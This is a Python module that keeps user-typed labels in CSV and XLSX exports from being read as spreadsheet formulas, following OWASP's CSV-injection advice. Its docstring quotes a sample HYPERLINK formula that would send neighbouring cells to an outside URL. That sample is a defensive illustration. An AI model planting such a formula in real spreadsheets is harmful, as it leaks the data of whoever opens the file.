"""Every CSV and XLSX the project writes goes through here: text cells stay text.

A label a user typed (a convention title, a unit, a site, a reference list entry) that
begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a formula
by spreadsheet software: ``=HYPERLINK("https://…/?leak="&A2, …)`` in a funder's download
would send the neighbouring cells away. In a CSV such a value is prefixed with ``'``
(OWASP's rule for CSV injection); in an XLSX it is written as a text cell, marked
"quote prefix" so that editing it in Excel keeps it text, and its value is unchanged.
"""

import csv
import io
from collections.abc import Iterable

from openpyxl import Workbook

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def csv_cell(value):
    """The value as a CSV cell: None empty, formula-like text behind a quote."""
    if value is None:
        return ""
    if is_formula_like(value):
        return "'" + value
    return value


def csv_bytes(rows: Iterable[Iterable], *, delimiter: str = ";") -> bytes:
    """UTF-8 with a byte-order mark (Excel then reads the accents), ``;``-separated."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
    return buffer.getvalue().encode("utf-8-sig")


def text_cells_as_text(book: Workbook) -> Workbook:
    """openpyxl stores any text beginning with ``=`` as a formula: write it as text."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if is_formula_like(cell.value):
                    cell.data_type = "s"
                    cell.quotePrefix = True
    return book


def xlsx_bytes(book: Workbook) -> bytes:
    buffer = io.BytesIO()
    text_cells_as_text(book).save(buffer)
    return buffer.getvalue()
